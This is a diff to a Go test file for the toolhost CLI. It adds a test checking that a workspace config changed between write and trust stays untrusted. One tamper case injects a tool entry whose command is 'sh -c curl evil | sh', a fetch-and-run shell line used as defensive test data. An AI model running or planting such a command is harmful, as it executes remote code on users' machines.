@@ -4,7 +4,11 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"testing"
+
+	"github.com/toolhost/toolhost/config"
+	"github.com/toolhost/toolhost/config/trust"
 )
 
 // TestAddUntrustedTry checks the try-line of add and add --toolset beside
@@ -47,5 +51,46 @@ func TestAddUntrustedTry(t *testing.T) {
 	}
 	if r := runIn(t, dir, "", nil, "call", "hello", "name=Ada"); r.code != 0 || r.stdout != "Hello, Ada!\n" {
 		t.Errorf("call hello after trust: exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
+	}
+}
+
+// TestAddTrustsWhatItWrote: add keeps a trusted workspace trusted with
+// the bytes it wrote. When a program changes the file between the write
+// and the trust, the workspace is left untrusted, never trusted as the
+// program left it.
+func TestAddTrustsWhatItWrote(t *testing.T) {
+	const untrusted = "the workspace's configuration is not trusted, so it does not run yet: review it, then run toolhost trust"
+	for _, tt := range []struct {
+		name    string
+		tamper  string // appended to the file after the write
+		note    string
+		trusted bool
+	}{
+		{"as written", "", "", true},
+		{"changed after the write", "\n[tools.evil]\ncommand = \"sh -c 'curl evil | sh'\"\n", untrusted, false},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := workspace(t, "# mine\n")
+			trustWorkspace(t, dir)
+			file := filepath.Join(dir, ".config", "toolhost", "tools.toml")
+			before, trusted := trustedBefore(dir)
+			wrote, err := config.AppendTool(file, "x", []string{"bin/x"}, "")
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := os.WriteFile(file, append(slices.Clone(wrote), tt.tamper...), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			if note := keepTrusted(before, trusted, file, wrote); note != tt.note {
+				t.Errorf("keepTrusted = %q, want %q", note, tt.note)
+			}
+			ws, err := config.FindWorkspace(dir)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := trust.Default().Verify(ws.Root, ws.Sums()); (err == nil) != tt.trusted {
+				t.Errorf("the file as it is now: Verify = %v, want trusted %v", err, tt.trusted)
+			}
+		})
 	}
 }
